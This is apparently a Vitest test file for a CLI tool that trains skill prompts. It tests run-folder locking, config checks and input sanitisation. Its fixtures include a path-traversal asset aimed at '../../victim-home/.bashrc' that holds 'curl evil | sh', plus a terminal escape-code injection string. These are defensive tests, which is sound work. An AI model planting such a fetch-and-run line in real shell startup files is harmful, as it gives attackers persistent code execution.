// The runner against bad input and a busy folder (issue #28): `train` continues only its own run and
// only on the hosts the config names (item 3); one runner per --out folder, a stale lock taken over
// (item 5); --min-lift checked before anything is spent; endpoint text reaches the terminal without
// its escape codes; a package tree the file system cannot hold is named before the paid run (LOW).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { zipSync, strToU8 } from 'fflate';
import { startLlmServer, type LlmTestServer } from '../support/llm-server';
import { makeWorldItems } from '../support/rule-world';

const BIN = new URL('../../bin/skillwright.mjs', import.meta.url).pathname;
const KEY = 'sk-cli-guard-key-123';
let a: LlmTestServer;
let b: LlmTestServer;
let dir: string;

const RUN = { epochs: 1, batchSize: 6, minibatchSize: 3, mergeBatchSize: 3, slowUpdateSamples: 4, targetConcurrency: 4, optimizerConcurrency: 4 };
const config = (url: string, patch: Record<string, unknown> = {}) => ({
  data: 'data.json',
  skill: 'skill.md',
  target: { baseURL: url, model: 'sim-target', maxRetries: 0 },
  optimizer: { baseURL: url, model: 'sim-optimizer', maxRetries: 0 },
  prices: { target: { input: 1, output: 4 }, optimizer: { input: 1, output: 4 } },
  run: RUN,
  ...patch,
});

beforeAll(async () => {
  [a, b] = await Promise.all([startLlmServer({ latencyMs: 5 }), startLlmServer({ latencyMs: 5 })]);
  dir = mkdtempSync(join(tmpdir(), 'skillwright-guards-'));
  writeFileSync(join(dir, 'data.json'), JSON.stringify(makeWorldItems(30)));
  writeFileSync(join(dir, 'skill.md'), '# Skill\n\nAnswer with the code.\n');
  writeFileSync(join(dir, 'other-skill.md'), '# Another skill\n\nAnswer with the code, carefully.\n');
  writeFileSync(join(dir, 'a.json'), JSON.stringify(config(a.url)));
  writeFileSync(join(dir, 'b.json'), JSON.stringify(config(b.url)));
});
const children = new Set<ChildProcess>();
afterAll(async () => {
  for (const c of children) if (c.exitCode === null) c.kill('SIGKILL'); // only on a failed test
  await Promise.all([a.close(), b.close()]);
});

interface Ran {
  code: number | null;
  stdout: string;
  stderr: string;
}

function start(args: string[]): { child: ChildProcess; done: Promise<Ran>; stderr: () => string } {
  const child = spawn(process.execPath, [BIN, ...args], { cwd: dir, env: { PATH: process.env.PATH ?? '', SKILLWRIGHT_TARGET_API_KEY: KEY } });
  children.add(child);
  let stdout = '';
  let stderr = '';
  child.stdout!.on('data', (d: Buffer) => (stdout += d.toString()));
  child.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
  const done = new Promise<Ran>((resolve) => child.on('close', (code) => resolve({ code, stdout, stderr })));
  return { child, done, stderr: () => stderr };
}
const cli = (args: string[]) => start(args).done;

/** Resolves once `f` holds (polled on every turn of the event loop, never on a timer guess). */
async function until(f: () => boolean): Promise<void> {
  while (!f()) await new Promise((r) => setImmediate(r));
}

describe('train on a folder that already holds a run (issue #28 item 3)', () => {
  it('refuses a run made against other hosts, naming the run and the hosts, and sends the new key to neither', async () => {
    const paused = await cli(['train', '--config', 'a.json', '--out', 'hosts', '--max-usd', '0.0001']);
    expect(paused.code, paused.stderr).toBe(3); // the budget cap paused it
    const lines = readFileSync(join(dir, 'hosts', 'run.jsonl'), 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l));
    const runId = lines.find((l) => l.t === 'run').v.id as string;
    const [before, beforeB] = [a.log.length, b.log.length];
    const r = await cli(['train', '--config', 'b.json', '--out', 'hosts']);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toContain(`holds run ${runId}`);
    expect(r.stderr).toContain(`target: ${new URL(a.url).origin} → ${new URL(b.url).origin}`);
    expect([a.log.length, b.log.length]).toEqual([before, beforeB]);
  }, 60_000);

  it('refuses a finished run when the skill changed (it used to exit 0 with the old results), and continues the same run', async () => {
    const done = await cli(['train', '--config', 'a.json', '--out', 'finished']);
    expect([0, 100]).toContain(done.code);
    const changed = await cli(['train', '--config', 'a.json', '--skill', 'other-skill.md', '--out', 'finished']);
    expect(changed.code, changed.stderr).toBe(2);
    expect(changed.stderr).toMatch(/which this command would not start: the starting skill differ/);
    expect(changed.stderr).toContain('skillwright resume --out');
    writeFileSync(join(dir, 'epochs.json'), JSON.stringify(config(a.url, { run: { ...RUN, epochs: 2 } })));
    const epochs = await cli(['train', '--config', 'epochs.json', '--out', 'finished']);
    expect(epochs.code).toBe(2);
    expect(epochs.stderr).toMatch(/run\.epochs differ/);
    const same = await cli(['train', '--config', 'a.json', '--out', 'finished']);
    expect(same.code, same.stderr).toBe(done.code);
    expect(same.stderr).toMatch(/Continuing the run in .*finished/);
  }, 60_000);
});

describe('one runner per --out folder (issue #28 item 5)', () => {
  it('refuses a second runner with exit 2 naming the first one’s pid, while the first holds the folder', async () => {
    // The first runner waits on a baseline batch the server holds back until it is stopped.
    b.set({ batchDelayMs: 3_600_000 });
    writeFileSync(join(dir, 'held.json'), JSON.stringify(config(b.url, { target: { baseURL: b.url, model: 'sim-target', batchApi: 'openai', batchPollMs: 5 } })));
    const first = start(['train', '--config', 'held.json', '--out', 'busy']);
    try {
      await until(() => b.batches.length > 0);
      const calls = b.log.length;
      const second = await cli(['train', '--config', 'held.json', '--out', 'busy']);
      expect(second.code, second.stderr).toBe(2);
      expect(second.stderr).toContain(`in use by another skillwright (pid ${first.child.pid}`);
      const resumed = await cli(['resume', '--out', 'busy']);
      expect(resumed.code).toBe(2);
      expect(resumed.stderr).toContain(`pid ${first.child.pid}`);
      expect(b.log.length).toBe(calls); // neither asked anything
      expect(b.batches).toHaveLength(1);
    } finally {
      first.child.kill('SIGINT');
      b.set({ batchDelayMs: 0 });
    }
    expect((await first.done).code).toBe(3); // paused at its checkpoint: the same command resumes
    expect(existsSync(join(dir, 'busy', '.skillwright.lock'))).toBe(false);
  }, 60_000);

  it('takes over a lock whose process is gone', async () => {
    const gone = spawnSync(process.execPath, ['-e', 'process.stdout.write(String(process.pid))']).stdout.toString();
    mkdirSync(join(dir, 'stale'), { recursive: true });
    const host = (await import('node:os')).hostname();
    writeFileSync(join(dir, 'stale', '.skillwright.lock'), JSON.stringify({ pid: Number(gone), host, since: 'then' }));
    const r = await cli(['train', '--config', 'a.json', '--out', 'stale']);
    expect([0, 100]).toContain(r.code);
    expect(existsSync(join(dir, 'stale', '.skillwright.lock'))).toBe(false);
  }, 60_000);
});

describe('a run bundle cannot write outside --out (issue #28 item 1)', () => {
  it('refuses a bundle whose package assets name paths outside the folder, or whose items are crafted, and writes nothing', async () => {
    const made = await cli(['train', '--config', 'a.json', '--out', 'bundle-src']);
    expect([0, 100]).toContain(made.code);
    const good = JSON.parse(readFileSync(join(dir, 'bundle-src', 'run-bundle.json'), 'utf8'));
    const evil = structuredClone(good);
    evil.run.skillPackage = { name: 'pkg', frontmatter: '', assets: [{ path: '../../victim-home/.bashrc', data: 'curl evil | sh\n' }] };
    writeFileSync(join(dir, 'evil-bundle.json'), JSON.stringify(evil));
    const r = await cli(['resume', '--bundle', 'evil-bundle.json', '--config', 'a.json', '--out', 'evil-out/o']);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toMatch(/run\.skillPackage\.assets\.0\.path: must be a normalised path inside the package/);
    expect(existsSync(join(dir, 'victim-home'))).toBe(false);
    expect(existsSync(join(dir, 'evil-out', 'o', 'run.jsonl'))).toBe(false);
    // An item without its fields used to crash the runner after the paid run, on every rerun.
    const crafted = structuredClone(good);
    delete crafted.dataset.items[0].fields;
    writeFileSync(join(dir, 'crafted-bundle.json'), JSON.stringify(crafted));
    const c = await cli(['resume', '--bundle', 'crafted-bundle.json', '--config', 'a.json', '--out', 'crafted-out']);
    expect(c.code, c.stderr).toBe(2);
    expect(c.stderr).toMatch(/dataset\.items\.0\.fields/);
    // A finished run whose package tree no disk can hold is named, exit 2 — it used to exit 1 with nothing written.
    const deep = structuredClone(good);
    deep.run.skillPackage = { name: 'pkg', frontmatter: '', assets: [{ path: `${'d/'.repeat(2_100)}x.sh`, data: 'echo\n' }] };
    writeFileSync(join(dir, 'deep-bundle.json'), JSON.stringify(deep));
    const d = await cli(['resume', '--bundle', 'deep-bundle.json', '--config', 'a.json', '--out', 'deep-out']);
    expect(d.code, d.stderr).toBe(2);
    expect(d.stderr).toMatch(/outputs cannot be written in .*deep-out, so nothing was started: .*ENAMETOOLONG/);
  }, 120_000); // four runner processes: a minute on a busy machine
});

describe('checked before anything is spent (issue #28 LOW)', () => {
  it('refuses a bad --min-lift before any call', async () => {
    const calls = a.log.length;
    const r = await cli(['train', '--config', 'a.json', '--out', 'minlift', '--min-lift', 'lots']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--min-lift must be a number ≥ 0/);
    expect(a.log.length).toBe(calls);
  }, 60_000);

  it('names a package tree the file system cannot hold before the paid run, not after it', async () => {
    const long = `scripts/${'x'.repeat(300)}.sh`;
    const zip = zipSync({ 'pkg/SKILL.md': strToU8('---\nname: pkg\ndescription: d\n---\n\n# Pkg\n\nAnswer with the code.\n'), [`pkg/${long}`]: strToU8('echo hi\n') });
    writeFileSync(join(dir, 'pkg.zip'), zip);
    const calls = a.log.length;
    const r = await cli(['train', '--config', 'a.json', '--skill', 'pkg.zip', '--out', 'long-name']);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toMatch(/outputs cannot be written in .*long-name, so nothing was started: .*ENAMETOOLONG/);
    expect(a.log.length).toBe(calls);
  }, 60_000);

  it('shows an endpoint’s error without its terminal escape codes', async () => {
    a.set({ faults: [{ kind: '401', message: 'bad key \u001b[2J\u001b]0;owned\u0007 ask your admin' }] });
    try {
      const r = await cli(['train', '--config', 'a.json', '--out', 'escapes']);
      expect(r.code).toBe(3);
      expect(r.stderr).toContain('bad key [2J]0;owned ask your admin');
      expect(r.stderr).not.toContain('\u001b');
      expect(r.stderr).not.toContain('\u0007');
    } finally {
      a.set({ faults: [] });
    }
  }, 60_000);
});
